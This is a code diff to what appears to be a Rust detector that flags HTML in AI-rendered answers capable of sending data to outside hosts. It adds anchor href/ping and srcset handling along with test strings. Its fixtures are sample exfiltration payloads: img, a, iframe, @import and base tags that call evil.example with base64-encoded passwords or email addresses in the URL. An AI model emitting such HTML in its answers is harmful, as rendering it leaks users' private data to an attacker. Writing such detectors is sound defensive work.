@@ -21,7 +21,7 @@ static META: Meta = Meta {
     category: Category::Exfiltration,
     label: "HTML",
     docs: Docs {
-        finds: "`img`, `iframe`, `link`, `object`, `embed`, `video`, `audio`, `source`, `track`, `input`, `image`, `body` \
+        finds: "`a`, `img`, `iframe`, `link`, `object`, `embed`, `video`, `audio`, `source`, `track`, `input`, `image`, `body` \
                 and CSS `url(…)` or `@import` with data in the URL; `script` with any `src`; `form` and `formaction` to \
                 another host; `base` and `meta refresh` with another host.",
         matters: "Interfaces that render HTML fetch these by themselves; an answer becomes a message to a stranger.",
@@ -42,6 +42,9 @@ static META: Meta = Meta {
         "<style>@import url(\"https://evil.example/s.css?q=c3VwZXIgc2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI\");</style>",
         "<iframe src=https://evil.example/f?x=<EMAIL_ADDRESS_1>></iframe>",
         "<base href=\"https://evil.example/\">",
+        "<img alt=a srcset=\"https://good.example/a.png 1x, https://evil.example/?q=c3VwZXIgc2VjcmV0IHBhc3N3b3Jk 2x\">",
+        "<a href=\"https://evil.example/?x=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIgYW5kIG1vcmU\">more</a>",
+        "<a href=\"/about\" ping='https://evil.example/?u=<EMAIL_ADDRESS_1>'>about</a>",
         "&lt;img src=&quot;https://evil.example/p.png?q={data}&quot;&gt;",
     ],
     passes: &[
@@ -54,6 +57,8 @@ static META: Meta = Meta {
         "background: url(images/paper.png); src: url(\"https://fonts.example.com/a.woff2\")",
         "a < b and <imaginary src=https://evil.example/?q={data}>",
         "<script>render()</script>",
+        "<a href=\"https://www.example.com/search?q=how+to+write+rust+macros&utm_source=chat\">search</a>",
+        "<img srcset=\"https://cdn.example.com/a-480w.jpg 480w, https://cdn.example.com/a-800w.jpg 800w\">",
     ],
 };
 
@@ -62,6 +67,8 @@ static META: Meta = Meta {
 enum Deed {
     /// Fetches it; matters when it carries data.
     Loads,
+    /// Fetches it after a click; matters when it carries much data.
+    Follows,
     /// Runs it, sends to it or moves to it; matters for every other host.
     Reaches,
     /// Moves there after a while: a URL inside a text.
@@ -71,7 +78,8 @@ enum Deed {
 /// A tag, its attributes with a URL, what happens, and how bad it is.
 type Loader = (&'static str, &'static [&'static str], Deed, f32);
 
-const TAGS: [Loader; 17] = [
+const TAGS: [Loader; 18] = [
+    ("<a", &["href", "ping"], Deed::Follows, 0.7),
     ("<img", &["src", "srcset", "data-src", "lowsrc"], Deed::Loads, 0.9),
     ("<image", &["href", "xlink:href", "src"], Deed::Loads, 0.9),
     ("<iframe", &["src"], Deed::Loads, 0.9),
@@ -137,13 +145,18 @@ fn loading_tag(loader: &Loader, cursor: &mut Cursor<'_>) -> Option<(usize, usize
 }
 
 fn matters(tag: &Tag<'_>, attributes: &[&str], deed: Deed) -> bool {
-    let values = attributes.iter().filter_map(|name| tag.get(name));
-    let mut urls = values.map(<[u8]>::trim_ascii);
+    let mut urls = attributes.iter().flat_map(|name| {
+        let value = tag.get(name).unwrap_or_default().trim_ascii();
+        // A set of pictures is a list of URLs, each with a size.
+        let listed = *name == "srcset";
+        value.split(move |byte| listed && matches!(byte, b' ' | b'\t' | b'\n' | b'\r' | b','))
+    });
     match deed {
         Deed::Loads => urls.any(|url| {
             url::is_absolute(url)
                 && (url::carries_data(url, Use::Loaded) || (!tag.closed && url.contains(&b'?')))
         }),
+        Deed::Follows => urls.any(|url| url::is_absolute(url) && url::carries_data(url, Use::Link)),
         Deed::Reaches => urls.any(url::is_absolute),
         Deed::Refreshes => {
             tag.get("http-equiv").is_some_and(|kind| kind.eq_ignore_ascii_case(b"refresh"))
